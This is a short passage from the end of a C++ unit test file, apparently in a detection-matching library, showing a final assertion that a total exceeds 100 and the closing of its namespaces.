  EXPECT_GT(total, 100u);
}

}  // namespace
}  // namespace vigil::detect::match
